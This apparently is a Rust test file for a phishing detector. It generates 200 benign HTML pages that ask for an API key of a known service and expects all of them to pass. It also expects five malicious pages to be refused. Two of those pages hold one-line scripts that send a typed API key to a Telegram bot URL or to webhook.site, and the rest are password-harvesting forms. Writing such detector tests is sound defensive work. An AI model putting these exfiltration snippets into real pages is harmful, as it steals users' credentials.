//! Tools that ask for an API key or token of a known service: legitimate, unless they send it to somebody else.

use dropleaf_inspect::phishing::{File, Rules, Verdict, check};

/// Services, their hosts and what their keys are called.
const SERVICES: [(&str, &str, &str); 25] = [
    ("OpenAI", "api.openai.com", "API token"),
    ("ChatGPT", "api.openai.com", "API key"),
    ("Anthropic", "api.anthropic.com", "API key"),
    ("Google Gemini", "generativelanguage.googleapis.com", "API key"),
    ("GitHub", "api.github.com", "token"),
    ("GitLab", "gitlab.com", "access token"),
    ("Telegram", "api.telegram.org", "bot token"),
    ("Discord", "discord.com", "bot token"),
    ("Slack", "slack.com", "bot token"),
    ("Stripe", "api.stripe.com", "secret key"),
    ("PayPal", "api-m.sandbox.paypal.com", "client secret"),
    ("Notion", "api.notion.com", "integration token"),
    ("Hugging Face", "api-inference.huggingface.co", "access token"),
    ("Dropbox", "api.dropboxapi.com", "access token"),
    ("Airtable", "api.airtable.com", "personal access token"),
    ("Cloudflare", "api.cloudflare.com", "API token"),
    ("DigitalOcean", "api.digitalocean.com", "API token"),
    ("Twitter", "api.twitter.com", "bearer token"),
    ("Facebook", "graph.facebook.com", "access token"),
    ("Instagram", "graph.instagram.com", "access token"),
    ("YouTube", "www.googleapis.com", "API key"),
    ("Spotify", "api.spotify.com", "access token"),
    ("Binance", "api.binance.com", "API key"),
    ("Coinbase", "api.coinbase.com", "API secret"),
    ("Shopify", "shop.example.com", "API key"),
];

/// Eight ways to write such a tool.
fn tool(way: usize, (service, host, key): (&str, &str, &str)) -> String {
    let call = format!(
        "<script>go.onclick=()=>fetch('https://{host}/v1/x',{{headers:{{Authorization:'Bearer '+k.value}}}})</script>"
    );
    let button = "<button id=go>Load</button>";
    match way {
        0 => format!(
            "<title>{service}</title><label>{service} {key} <input id=k name=t></label>{button}{call}"
        ),
        1 => format!(
            "<title>{service} playground</title><h1>{service} playground</h1><label for=k>{key}</label><input type=password id=k>{button}{call}"
        ),
        2 => format!(
            "<title>{service} {key} tester</title><input type=password id=k placeholder='Your {service} {key}'>{button}{call}"
        ),
        3 => format!(
            "<title>{service} dashboard</title><p>Enter your {service} {key}. It stays in this browser.</p><form><input type=password id=k autocomplete=off aria-label='{service} {key}'>{button}</form>{call}"
        ),
        4 => format!(
            "<title>Chat with {service}</title><h2>Settings</h2><div>{key}</div><input id=k type=password><textarea placeholder=Message></textarea>{button}{call}"
        ),
        5 => format!(
            "<title>{service} export</title><img alt='{service} logo' src=l.svg><form action='#'><label>User name <input name=user></label><label>{service} {key} <input name=token id=k></label>{button}</form>{call}"
        ),
        6 => format!(
            "<title>Report for {service}</title><footer>© 2026 Fernway, not affiliated with {service}</footer><details><summary>Settings</summary><input id=k name=api_key placeholder='{key}'></details>{button}{call}"
        ),
        _ => format!(
            "<title>{service} tools</title><div id=app></div><script>app.innerHTML=`<h1>Connect {service}</h1><label>Your {service} {key}<input type=\"password\" id=\"k\"></label>`;fetch('https://{host}/v1/x')</script>"
        ),
    }
}

fn judged(page: &str, rules: &Rules) -> Verdict {
    check(&[File { path: "index.html", text: page }], rules)
}

#[test]
fn two_hundred_tools_that_ask_for_a_key_are_accepted() {
    let rules = Rules::builtin();
    let mut pages = 0;
    for service in SERVICES {
        for way in 0..8 {
            let page = tool(way, service);
            let verdict = judged(&page, &rules);
            assert!(!verdict.refused, "{page}\n{:.2} {:?}", verdict.score, verdict.reasons);
            pages += 1;
        }
    }
    assert_eq!(pages, 200);
}

#[test]
fn key_that_goes_to_a_stranger_or_hides_a_password_is_refused() {
    let rules = Rules::builtin();
    for page in [
        "<title>Tester</title><label>OpenAI API key <input id=k></label><script>fetch('https://api.telegram.org/bot1:INVALID/sendMessage?text='+k.value)</script>",
        "<title>Tester</title><label>GitHub token <input id=k></label><script>fetch('https://webhook.site/1',{method:'POST',body:k.value})</script>",
        "<title>PayPal</title><input name=user><input type=password name=api_key>",
        "<title>PayPal</title><input type=password name=token placeholder='Password'>",
        "<title>PayPal</title><label>API key <input name=a></label><label>Password <input type=password></label>",
    ] {
        assert!(judged(page, &rules).refused, "{page}");
    }
}
